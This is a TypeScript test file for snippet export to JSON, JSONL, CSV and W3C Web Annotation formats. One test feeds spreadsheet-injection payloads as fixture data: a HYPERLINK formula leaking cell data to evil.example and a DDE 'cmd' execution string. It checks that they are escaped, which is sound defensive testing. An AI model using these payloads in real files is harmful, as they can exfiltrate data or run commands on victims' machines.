import Papa from "papaparse"
import { describe, expect, it } from "vitest"

import { CSV_COLUMNS, SNIPPET_SCHEMA_VERSION, guardCsvCell, toCsv, toJson, toJsonl, toW3c, toW3cAnnotation } from "~core/snippets"

import { make } from "../fixtures/snippets/make"

const EXPORTED_AT = "2025-04-01T00:00:00.000Z"

describe("toJson / toJsonl", () => {
  it("wraps snippets in our versioned format", () => {
    const s = make()
    const doc = JSON.parse(toJson({ version: SNIPPET_SCHEMA_VERSION, snippets: [s] }, { exportedAt: EXPORTED_AT }))
    expect(doc).toEqual({ format: "track-record-snippets", version: SNIPPET_SCHEMA_VERSION, exportedAt: EXPORTED_AT, snippets: [s] })
    expect(JSON.parse(toJson([s], { exportedAt: EXPORTED_AT }))).toEqual(doc)
  })

  it("writes one snippet per line", () => {
    const a = make()
    const b = make({ quote: { exact: "second\nquote with a newline" } })
    const out = toJsonl([a, b])
    const lines = out.split("\n")
    expect(lines).toHaveLength(3)
    expect(lines[2]).toBe("")
    expect(lines.slice(0, 2).map((l) => JSON.parse(l))).toEqual([a, b])
    expect(toJsonl([])).toBe("")
  })
})

describe("toCsv", () => {
  it("has the documented columns and parses back with papaparse", () => {
    const s = make({ note: 'He said "fully restored", twice,\nthen retracted.' })
    const csv = toCsv([s])
    expect(csv.endsWith("\r\n")).toBe(true)
    const parsed = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true })
    expect(parsed.errors).toEqual([])
    expect(parsed.meta.fields).toEqual([...CSV_COLUMNS])
    expect(parsed.data).toEqual([
      {
        id: s.id,
        saved_at: "2025-03-15T09:30:00.000Z",
        url: "https://news.example.com/2025/03/acme-outage",
        page_title: "Acme Cloud outage hits three regions",
        page_date: "2025-03-14",
        vendors: "Acme Cloud",
        claim_kind: "recovery",
        rule: "systems-restored",
        quote: "all systems have been restored",
        prefix: "On Tuesday evening Acme said that ",
        suffix: " and that no data was lost.",
        tags: "outage; recovery claim",
        note: 'He said "fully restored", twice,\nthen retracted.',
        incidents: "acme-cloud-2025-03-outage",
        incident_sources: "https://status.example.com/incidents/2025-03-14 https://news.example.com/2025/03/acme-outage"
      }
    ])
  })

  it("neutralises spreadsheet formulas in every text cell", () => {
    const s = {
      ...make({
        quote: { exact: '=HYPERLINK("https://evil.example/?"&A1,"click")', prefix: "+cmd|' /C calc'!A0", suffix: "@SUM(1+1)" },
        note: "-2+3",
        tags: ["=tag"]
      }),
      pageTitle: "\tTabbed"
    }
    const row = Papa.parse<Record<string, string>>(toCsv([s]), { header: true, skipEmptyLines: true }).data[0]
    expect(row.quote).toBe(`'=HYPERLINK("https://evil.example/?"&A1,"click")`)
    expect(row.prefix).toBe("'+cmd|' /C calc'!A0")
    expect(row.suffix).toBe("'@SUM(1+1)")
    expect(row.note).toBe("'-2+3")
    expect(row.page_title).toBe("'\tTabbed")
    expect(row.tags).toBe("'=tag")
    // Ordinary cells are untouched.
    expect(row.url).toBe(s.url)
    expect(guardCsvCell("\rx")).toBe("'\rx")
    expect(guardCsvCell("a=b")).toBe("a=b")
  })

  it("writes only the header for no snippets, with an optional byte-order mark", () => {
    expect(toCsv([])).toBe(CSV_COLUMNS.join(",") + "\r\n")
    expect(toCsv([], { bom: true })).toBe("\ufeff" + CSV_COLUMNS.join(",") + "\r\n")
  })
})

describe("toW3c", () => {
  it("produces a collection with required Web Annotation fields", () => {
    const snippets = [make(), make({ quote: { exact: "99.999% uptime" }, tags: [], note: "", position: null, pageDate: null, vendors: [], claimKind: null, rule: null, incidents: [] })]
    const doc = toW3c(snippets, { exportedAt: EXPORTED_AT })
    expect(doc["@context"]).toBe("http://www.w3.org/ns/anno.jsonld")
    expect(doc.type).toBe("AnnotationCollection")
    expect(doc.id).toMatch(/^urn:track-record:export:/)
    expect(doc.total).toBe(2)
    expect(doc.first.type).toBe("AnnotationPage")
    expect(doc.first.id).toMatch(/^urn:/)
    expect(doc.first.items).toHaveLength(2)
    for (const a of doc.first.items) {
      expect(a["@context"]).toBe("http://www.w3.org/ns/anno.jsonld")
      expect(a.type).toBe("Annotation")
      expect(a.id).toMatch(/^urn:track-record:snippet:[A-Za-z0-9_-]+$/)
      expect(a.created).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/)
      expect(a.target.source).toMatch(/^https:\/\//)
      expect(a.target.selector[0].type).toBe("TextQuoteSelector")
      // Every body has a type; TextualBody has a value, SpecificResource a source (model §3.2, §4).
      for (const b of a.body ?? []) {
        expect(["TextualBody", "SpecificResource"]).toContain(b.type)
        if (b.type === "TextualBody") expect(typeof b.value).toBe("string")
        else expect(b.source).toMatch(/^https?:\/\//)
        expect(["tagging", "commenting", "classifying", "linking"]).toContain(b.purpose)
      }
    }
    // The bare highlight has no body at all rather than an empty one.
    expect(doc.first.items[1]).not.toHaveProperty("body")
    expect(doc.first.items[1].motivation).toBe("highlighting")
    expect(doc.first.items[1].target).toEqual({ source: snippets[1].url, selector: [{ type: "TextQuoteSelector", exact: "99.999% uptime", prefix: "", suffix: "" }] })
  })

  it("maps tags, note, vendors, claim kind, incidents and page date", () => {
    const s = make()
    const a = toW3cAnnotation(s)
    expect(a.motivation).toBe("commenting")
    expect(a.target.selector).toEqual([
      { type: "TextQuoteSelector", exact: s.quote.exact, prefix: s.quote.prefix, suffix: s.quote.suffix },
      { type: "TextPositionSelector", start: 410, end: 440 }
    ])
    expect(a.target.state).toEqual({ type: "TimeState", sourceDate: "2025-03-14T00:00:00Z" })
    expect(a.body).toEqual([
      { type: "TextualBody", value: "outage", purpose: "tagging" },
      { type: "TextualBody", value: "recovery claim", purpose: "tagging" },
      { type: "TextualBody", value: s.note, purpose: "commenting", format: "text/plain" },
      { type: "TextualBody", id: "urn:track-record:vendor:acme-cloud", value: "Acme Cloud", purpose: "classifying" },
      { type: "TextualBody", id: "urn:track-record:claim-kind:recovery", value: "recovery claim", purpose: "classifying" },
      { type: "TextualBody", id: "urn:track-record:rule:systems-restored", value: "systems-restored", purpose: "classifying" },
      { type: "SpecificResource", source: "https://status.example.com/incidents/2025-03-14", purpose: "linking" },
      { type: "SpecificResource", source: "https://news.example.com/2025/03/acme-outage", purpose: "linking" }
    ])
    expect(toW3cAnnotation(make({ note: "" })).motivation).toBe("tagging")
  })
})
